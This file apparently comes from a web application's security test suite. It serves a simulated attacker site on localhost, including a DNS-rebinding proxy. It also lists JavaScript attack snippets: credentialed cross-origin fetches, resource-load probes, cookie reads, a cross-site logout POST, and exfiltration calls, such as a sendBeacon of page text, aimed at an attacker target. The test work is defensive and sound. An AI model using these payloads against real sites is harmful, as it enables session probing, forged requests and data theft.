"""A web site of an attacker, which somebody opens in the browser in which they are logged in to the page."""

import asyncio
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field

BAIT = b"<!doctype html><title>kittens</title><h1>Kittens</h1>"
MAX_HEAD_BYTES = 16_384

Answer = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[None, None, None]]


@dataclass
class AttackerSite:
    """Whoever asks gets the same page, and may read it from everywhere. `heads` is what browsers have told it."""

    heads: list[str] = field(default_factory=list)

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(asyncio.IncompleteReadError, ConnectionError):
            self.heads.append((await reader.readuntil(b"\r\n\r\n")).decode())
            head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(BAIT)}\r\nConnection: close\r\n"
            writer.write(f"{head}Access-Control-Allow-Origin: *\r\n\r\n".encode() + BAIT)
            await writer.drain()


@dataclass
class ReboundSite:
    """An address to which a name of the attacker points: first it is their site, and then the page."""

    site: AttackerSite
    page_port: int
    is_rebound: bool = False

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if not self.is_rebound:
            await self.site.answer(reader, writer)
            return
        page_reader, page_writer = await asyncio.open_connection("127.0.0.1", self.page_port)
        try:
            async with asyncio.TaskGroup() as both:
                both.create_task(hand_on(reader, page_writer), name="to the page")
                both.create_task(hand_on(page_reader, writer), name="from the page")
        finally:
            page_writer.close()


async def hand_on(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(ConnectionError):
        while piece := await reader.read(MAX_HEAD_BYTES):
            writer.write(piece)
            await writer.drain()
    writer.close()


@dataclass
class Attacker:
    site: AttackerSite
    port: int  # of their site, at this machine
    rebound: ReboundSite


@asynccontextmanager
async def attacker(page_port: int, rebound_address: str) -> AsyncIterator[Attacker]:
    """Serve an attacker's site at a free port, and at the page's own port of another address of this machine."""
    site = AttackerSite()
    rebound = ReboundSite(site, page_port)
    async with serving(site.answer, "127.0.0.1", 0) as port, serving(rebound.answer, rebound_address, page_port):
        yield Attacker(site, port, rebound)


@asynccontextmanager
async def serving(answer: Answer, host: str, port: int) -> AsyncIterator[int]:
    """Serve at a port, and yield its number. At the end nobody is left, not even who has asked for nothing yet."""
    async with asyncio.TaskGroup() as answering:

        def begin(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            task = answering.create_task(answer(reader, writer), name="answer")
            task.add_done_callback(lambda _: writer.close())
            tasks.append(task)

        tasks = list[asyncio.Task[None]]()
        async with await asyncio.start_server(begin, host, port) as server:
            yield server.sockets[0].getsockname()[1]
        for task in tasks:
            task.cancel()


# What a script of the attacker's site tries. Each is the body of a function of the page's origin, and of the addresses
# of a conversation and a picture there, all of which the attacker is supposed to know. It returns what it has got; an
# empty text if nothing. That something was loaded is much: it shows who is logged in, and how large a picture is.
ELEMENT = """new Promise(resolve => {
    const each = Object.assign(document.createElement('%s'), %s);
    each.onload = () => resolve('loaded');
    each.onerror = () => resolve('');
    document.body.append(each);
})"""
ATTACKS = {
    "a fetch": "fetch(origin + path, {credentials: 'include'}).then(each => each.text()).catch(() => '')",
    "an event stream": """new Promise(resolve => {
        const stream = new EventSource(origin + path + '/events', {withCredentials: true});
        stream.onmessage = event => { stream.close(); resolve(event.data); };
        stream.onerror = () => { stream.close(); resolve(''); };
    })""",
    "a picture": ELEMENT % ("img", "{src: origin + picture}"),
    "a script": ELEMENT % ("script", "{src: origin + '/static/page.js'}"),
    "a style sheet": ELEMENT % ("link", "{rel: 'stylesheet', href: origin + '/static/page.css'}"),
    "a window": """new Promise(resolve => {
        const opened = window.open(origin + path);
        let looks = 30;  // after it has left its first, empty document
        const look = setInterval(() => {
            try { opened.location.href; } catch { looks -= 1; }
            if (!opened.closed && looks) return;
            clearInterval(look);
            resolve(opened.closed ? '' : 'in reach');
            opened.close();
        }, 25);
    })""",
    "a cookie": "document.cookie",
}
WEB_SOCKET = """new Promise(resolve => {
    const socket = new WebSocket(origin.replace('http', 'ws') + path + '/events');
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve('');
})"""
FRAME = """new Promise(resolve => {
    const frame = Object.assign(document.createElement('iframe'), {src: origin + path});
    frame.onload = () => resolve('');
    document.body.append(frame);
})"""
FORM = """fetch(origin + '/logout', {method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: {'Content-Type': 'application/x-www-form-urlencoded'}}).then(() => '', () => '')"""

# What words that became a script on the page itself could try, to reach `target` at the attacker's.
WAYS_OUT = (
    "fetch(target, {mode: 'no-cors'}).then(() => '', () => '')",
    "new Promise(resolve => Object.assign(new Image(), {onload: resolve, onerror: resolve, src: target}))",
    """new Promise(resolve => {
        const socket = new WebSocket(target.replace('http', 'ws'));
        socket.onopen = socket.onerror = resolve;
    })""",
    "new Promise(resolve => { new EventSource(target).onerror = resolve; })",
    "navigator.sendBeacon(target, document.body.innerText)",
)
